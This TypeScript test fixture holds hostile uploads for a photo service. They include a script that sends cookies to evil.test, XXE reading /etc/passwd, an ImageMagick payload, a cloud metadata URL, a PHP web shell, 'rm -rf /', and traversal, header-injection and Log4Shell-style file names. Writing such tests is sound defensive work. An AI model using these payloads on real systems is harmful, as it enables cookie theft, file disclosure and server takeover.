// Bytes, names and forms that are no photos.
import { smallPhoto } from "../../support/service/small-photo.js";

export const text = (content: string) => Buffer.from(content);
/** A picture, and behind it what a browser might take for a page. */
export const SCRIPT = "<html><script>fetch('https://evil.test/'+document.cookie)</script>";

/** What calls itself a photo. */
export const NO_PHOTOS: [what: string, bytes: () => Buffer][] = [
  [
    "SVG with a script",
    () => text(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
  ],
  ["SVG behind a byte order mark", () => text("\ufeff<svg xmlns='http://www.w3.org/2000/svg'/>")],
  [
    "SVG behind blanks and a comment",
    () => text("\n\n <!-- x --><svg xmlns='http://www.w3.org/2000/svg'/>"),
  ],
  [
    "SVG that includes a file of the disk",
    () =>
      text(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM ` +
          `"file:///etc/passwd">]><svg ` +
          `xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      ),
  ],
  ["SVG in gzip", () => Buffer.from("H4sIAAAAAAAAA7PJKEkFAAAA//8DAAAA", "base64")],
  ["a page", () => text(`<!doctype html>${SCRIPT}`)],
  ["a PDF", () => text("%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript>>>> endobj")],
  ["PostScript", () => text("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")],
  [
    "a script for ImageMagick",
    () =>
      text(
        'push graphic-context\nviewbox 0 0 1 1\nfill "url(https://evil.test/|id)"\npop ' +
          "graphic-context",
      ),
  ],
  [
    "a playlist that names an address",
    () => text("#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/"),
  ],
  ["a program", () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)])],
  ["a ZIP", () => Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(200)])],
  ["a shell script", () => text("#!/bin/sh\nrm -rf /\n")],
  ["a web shell behind GIF's first letters", () => text("GIF89a<?php system($_GET['c']); ?>")],
  [
    "a page behind JPEG's first bytes",
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(SCRIPT)]),
  ],
  [
    "a page behind PNG's first bytes",
    () => Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), text(SCRIPT)]),
  ],
  ["a WebP of no length", () => text("RIFF\0\0\0\0WEBP")],
  ["an AVIF of one box", () => Buffer.from("0000001c66747970617669660000000061766966", "hex")],
  ["a TIFF whose directory is itself", () => Buffer.from("49492a0008000000ffff08000000", "hex")],
  ["a BMP", () => Buffer.concat([text("BM"), Buffer.alloc(60)])],
  ["a thousand zeros", () => Buffer.alloc(1000)],
  ["one byte", () => Buffer.from([0xff])],
];

export const NAMES: [what: string, name: string, kept: RegExp][] = [
  ["climbs", "../../../../etc/cron.d/x", /^x$/],
  ["climbs as Windows does", "..\\..\\windows\\win.ini", /^win\.ini$/],
  ["is a path from the root", "/etc/passwd", /^passwd$/],
  ["is two points", "..", /^/],
  ["has a NUL before its end", "a.php\0.png", /^a\.php\.png$/],
  ["has a line end and a header in it", "a.png\r\nset-cookie: x=1", /^a\.pngset-cookie: x=1$/],
  ["turns the reading round", "a\u202egnp.exe", /^agnp\.exe$/],
  ["has markup in it", "<img src=x onerror=alert(1)>.png", /^<img src=x onerror=alert\(1\)>\.png$/],
  ["has quotes in it", "a\";filename*=UTF-8''evil.html", /^a";/],
  ["has 5,000 characters", "x".repeat(5000), /^x{200}$/],
  ["looks like SQL", "'); drop table photos; --.png", /^'\); drop table photos; --\.png$/],
  ["is a template", "${jndi:ldap://evil.test/a}{{7*7}}", /a\}\{\{7\*7\}\}$/],
];

export const part = (headers: string[], body: string | Buffer) =>
  Buffer.concat([text(`--x\r\n${headers.join("\r\n")}\r\n\r\n`), Buffer.from(body), text("\r\n")]);
export const disposition = (name: string, filename?: string) =>
  "content-disposition: form-data; " +
  `name="${name}"${filename === undefined ? "" : `; filename="${filename}"`}`;
export const END = text("--x--\r\n");

export const FORMS: [what: string, body: () => Buffer][] = [
  [
    "a thousand parts",
    () =>
      Buffer.concat([
        ...Array.from({ length: 1000 }, (_, i) => part([disposition(`f${i}`)], "x")),
        END,
      ]),
  ],
  [
    "a hundred files",
    () =>
      Buffer.concat([
        ...Array.from({ length: 100 }, () => part([disposition("file", "a.png")], smallPhoto())),
        END,
      ]),
  ],
  [
    "a field of 100 kB",
    () => Buffer.concat([part([disposition("field")], "x".repeat(100_000)), END]),
  ],
  [
    "a hundred headers on its part",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.txt"), ...Array.from({ length: 100 }, (_, i) => `x-${i}: y`)],
          "no photo",
        ),
        END,
      ]),
  ],
  [
    "a header of 60 kB on its part",
    () => Buffer.concat([part([disposition("file", "a".repeat(60_000))], "no photo"), END]),
  ],
  [
    "a part without a name",
    () => Buffer.concat([part(["content-disposition: form-data"], "x"), END]),
  ],
  [
    "a file whose name is __proto__",
    () => Buffer.concat([part([disposition("__proto__", "a.png")], smallPhoto()), END]),
  ],
  [
    "a field whose name is constructor",
    () => Buffer.concat([part([disposition("constructor")], "x"), END]),
  ],
  [
    "a form inside its form",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.png"), "content-type: multipart/mixed; boundary=y"],
          "--y\r\n\r\nx\r\n--y--",
        ),
        END,
      ]),
  ],
  [
    "a file in base64",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.png"), "content-transfer-encoding: base64"],
          smallPhoto().toString("base64"),
        ),
        END,
      ]),
  ],
  ["no end", () => part([disposition("file", "a.png")], text("GIF89a"))],
  ["nothing but boundaries", () => text("--x\r\n".repeat(5000))],
  ["a boundary that never comes", () => text("x".repeat(50_000))],
];
